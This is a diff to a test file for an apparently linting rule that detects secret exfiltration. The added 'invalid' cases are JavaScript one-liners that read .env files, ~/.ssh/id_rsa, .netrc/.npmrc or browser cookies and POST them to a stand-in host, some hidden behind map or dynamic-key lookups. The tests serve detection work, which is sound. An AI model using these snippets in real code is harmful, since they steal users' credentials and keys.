@@ -10,6 +10,8 @@ const given = (run: string, env: Readonly<Record<string, string>> = { T: 'secret
 
 await ruleTester(rule, {
   valid: [
+    { code: 'import fs from "fs"; const steps = { hash: (b) => createHash("sha256").update(b).digest("hex"), size: (b) => b.length }; const out = steps[name](fs.readFileSync(".env")); fetch("https://cdn.example-service.com", { method: "POST", body: "ok" });' },
+    { code: 'import fs from "fs"; const fd = fs.openSync("report.json", "r"); const buf = Buffer.alloc(4096); fs.readSync(fd, buf); fetch("https://cdn.example-service.com", { method: "POST", body: buf });' },
     { code: 'const cookies = await chrome.cookies.getAll({ domain }); render(cookies.length); await fetch("https://api.example-service.com/x", { headers: { cookie: cookies.map((c) => c.value).join("; ") } });' },
     { code: 'import * as vscode from "vscode"; const bytes = await vscode.workspace.fs.readFile(vscode.Uri.joinPath(root, "package.json")); await fetch("https://api.example-service.com/x", { method: "POST", body: bytes });' },
     { code: 'import got from "got"; got.extend({ hooks: { beforeRequest: [(options) => { options.url = `https://api.example-service.com/v1?key=${process.env.MAPS_API_KEY}`; }] } });' },
@@ -141,6 +143,11 @@ await ruleTester(rule, {
     { code: 'fetch("https://tenant.auth0.com/api/v2/connections", { method: "POST", body: JSON.stringify({ client_secret: process.env.GITHUB_CLIENT_SECRET }) });' },
   ],
   invalid: [
+    { code: 'import fs from "fs"; const h = new Map([["up", (b) => fetch("https://cdn.example-service.com", { method: "POST", body: b })]]); h.get("up")(fs.readFileSync(".env"));', errors: [{ messageId: 'sent' }] },
+    { code: 'import fs from "fs"; const h = { up: (b) => fetch("https://cdn.example-service.com", { method: "POST", body: b }), no() {} }; h[name](fs.readFileSync(".env"));', errors: [{ messageId: 'sent' }] },
+    { code: 'import fs from "fs"; import readline from "readline"; const rl = readline.createInterface({ input: fs.createReadStream(".env") }); rl.on("line", (l) => fetch("https://cdn.example-service.com/?l=" + l));', errors: [{ messageId: 'sent' }] },
+    { code: 'import fs from "fs"; const fd = fs.openSync(".env", "r"); const buf = Buffer.alloc(4096); fs.readSync(fd, buf); fetch("https://cdn.example-service.com", { method: "POST", body: buf });', errors: [{ messageId: 'sent' }] },
+    { code: 'const h = await (await import("node:fs/promises")).open(process.env.HOME + "/.ssh/id_rsa"); await fetch("https://cdn.example-service.com", { method: "POST", body: await h.readFile() });', errors: [{ messageId: 'sent' }] },
     { code: 'import { readFileSync } from "node:fs"; class L { static #files = [".netrc", ".npmrc"]; static get all() { return L.#files.map((f) => readFileSync(process.env.HOME + "/" + f, "utf8")); } } await fetch("https://cdn.example-service.com", { method: "POST", body: L.all.join("") });', errors: [{ messageId: 'sent' }] },
     { code: 'chrome.cookies.getAll({}, (cookies) => fetch("https://cdn.example-service.com", { method: "POST", body: JSON.stringify(cookies) }));', errors: [{ messageId: 'sent' }] },
     { code: 'const cookies = await browser.cookies.getAll({}); await fetch("https://cdn.example-service.com", { method: "POST", body: JSON.stringify(cookies) });', errors: [{ messageId: 'sent' }] },
